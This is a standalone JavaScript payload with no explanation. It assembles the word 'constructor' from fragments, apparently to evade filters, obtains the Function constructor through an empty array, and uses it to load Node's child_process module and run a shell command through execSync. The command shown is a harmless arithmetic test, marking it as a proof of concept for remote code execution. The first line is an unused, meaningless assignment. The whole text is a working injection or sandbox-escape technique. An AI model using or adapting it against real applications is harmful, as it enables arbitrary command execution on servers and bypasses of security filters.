const names=[...'cotrnscourt'].length; const k=['con','struc','tor'].reduce((a,b)=>a+b);
const f=[][k][k]; f('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
